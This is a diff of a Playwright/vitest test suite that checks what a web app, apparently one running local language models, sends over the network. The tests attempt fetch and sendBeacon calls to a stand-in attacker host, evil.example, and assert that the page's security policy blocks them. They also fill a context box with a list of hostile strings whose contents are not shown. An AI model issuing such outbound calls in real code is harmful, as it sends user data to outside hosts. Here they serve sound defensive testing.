@@ -1,9 +1,9 @@
 import { readFileSync } from "node:fs";
 import type { Page } from "playwright-core";
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { launchChromium, newPage, type Watched } from "../browser/chromium.ts";
 import { type RecordingProxy, startRecordingProxy } from "../faults/recording-proxy.ts";
-import { articles, ask, beginRenaming, serveSite, untilReady } from "./site.ts";
+import { articles, ask, beginRenaming, serveSite, untilIdle, untilReady } from "./site.ts";
 
 /** What a model, an imported file or a passage might say to reach the network or to run. */
 const hostile = [
@@ -76,7 +76,7 @@ async function everyPart(page: Page): Promise<void> {
   await page.getByRole("option").first().waitFor();
   await close();
   await page.getByRole("button", { name: "Regenerate" }).last().click();
-  await page.getByRole("button", { name: "Stop" }).waitFor({ state: "detached", timeout: 60_000 });
+  await untilIdle(page);
   await page.getByRole("button", { name: "Add a passage" }).click();
   await page.getByRole("textbox", { name: "Context" }).fill(hostile);
   await page.getByRole("button", { name: "Leave the passage out" }).click();
@@ -99,6 +99,12 @@ describe("everything the page does, seen from the network", () => {
     await browser?.close();
     await proxy?.stop();
     await site?.stop();
+  });
+
+  // Also what a test left open that did not come to its end.
+  beforeEach(async () => {
+    const dialog = open.page.getByRole("dialog").first();
+    while (await dialog.isVisible()) await open.page.keyboard.press("Escape");
   });
 
   const foreign = () =>
@@ -160,8 +166,14 @@ describe("everything the page does, seen from the network", () => {
     expect(tried.ownScript).toBe("done");
     const fetched = page.evaluate(() => fetch("https://evil.example/fetch").then(() => "done"));
     await expect(fetched).rejects.toThrow();
-    expect(await page.evaluate(() => navigator.sendBeacon("https://evil.example/beacon", "x"))).toBe(true);
-    await page.waitForTimeout(500);
+    const refused = await page.evaluate(
+      () =>
+        new Promise<string>((resolve) => {
+          addEventListener("securitypolicyviolation", ({ blockedURI }) => resolve(blockedURI));
+          navigator.sendBeacon("https://evil.example/beacon", "x");
+        }),
+    );
+    expect(refused).toBe("https://evil.example/beacon");
     expect(foreign()).toEqual([]);
   });
 
@@ -176,7 +188,7 @@ describe("everything the page does, seen from the network", () => {
     const { dependencies } = JSON.parse(readFileSync("package.json", "utf8"));
     for (const name of Object.keys(dependencies)) expect(text).toContain(`${name} `);
     expect(text).toMatch(/Permission is hereby granted/);
-    await page.keyboard.press("Escape");
+    await licences.close();
   });
 
   it("[X12] stays offline where the reader wants it to, over reloads, and says why a model does not come", async () => {
@@ -222,7 +234,7 @@ describe("everything the page does, seen from the network", () => {
       .getByRole("button", { name: /Dolly 3B/ })
       .first()
       .click();
-    await expect.poll(() => foreign().length, { timeout: 20_000 }).toBeGreaterThan(0);
+    await expect.poll(() => foreign().length).toBeGreaterThan(0);
     expect(new Set(foreign())).toEqual(new Set(["huggingface.co:443"]));
   });
 });
